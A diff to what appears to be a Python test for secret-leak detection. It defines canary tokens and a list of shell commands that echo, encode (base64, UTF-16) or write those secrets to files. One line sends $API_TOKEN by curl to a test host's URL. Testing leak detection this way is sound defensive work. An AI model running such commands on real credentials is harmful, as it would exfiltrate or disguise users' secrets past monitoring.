@@ -30,7 +30,7 @@ from tests.stories.telling import Story
 
 TOKEN = make_canary("API_TOKEN")
 PASSWORD = make_canary("SITE_PASSWORD", before='pé"', after=" &w%+")
-KEPT = make_canary("FILE_TOKEN")
+KEPT = make_canary("FILE_TOKEN", before="#tk-")
 CANARIES = (TOKEN, PASSWORD, KEPT)
 
 _SPLIT = """
@@ -54,7 +54,11 @@ COMMANDS = (
     f"python3 -c {shlex.quote(_ESCAPED)}",
     f'printf "url = http://{leaky.HOST}/shown?secret=%s" "$API_TOKEN" | curl -s -K -',
     'printf %s "$API_TOKEN" > notes.txt && cat notes.txt && rm notes.txt',
-    'echo "kept: $FILE_TOKEN" | tee kept.txt',
+    'printf "%q\\n" "$SITE_PASSWORD"; LC_ALL=C; printf "%q\\n" "$SITE_PASSWORD"',
+    'printf %s "$API_TOKEN$API_TOKEN" | base64 -w64 | sed "s/$/\\r/"',
+    'printf %s "$API_TOKEN$API_TOKEN" | iconv -t UTF-16LE | base64 | sed "s/$/\\r/"',
+    'echo "$FILE_TOKEN" | tee kept.txt',
+    'printf %s "$FILE_TOKEN" | iconv -t UTF-16 > kept.csv && ls',
 )
 IN_AN_ERROR = 'cd "/workspace/$API_TOKEN"'
 
